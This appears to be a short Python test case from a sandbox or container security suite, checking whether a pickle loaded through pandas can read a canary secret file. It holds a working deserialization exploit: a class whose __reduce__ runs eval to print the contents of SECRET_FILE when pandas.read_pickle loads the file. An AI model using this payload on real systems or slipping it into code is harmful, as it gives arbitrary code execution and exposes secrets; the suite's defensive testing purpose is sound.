"""Let pandas unpickle a file.

family: pickles
canary: secret
stops: full, container
root: no
"""

import pickle

import pandas


class Reader:
    def __reduce__(self):
        return (eval, (f"print(open({SECRET_FILE!r}).read())",))


open("frame.pkl", "wb").write(pickle.dumps(Reader()))
pandas.read_pickle("frame.pkl")
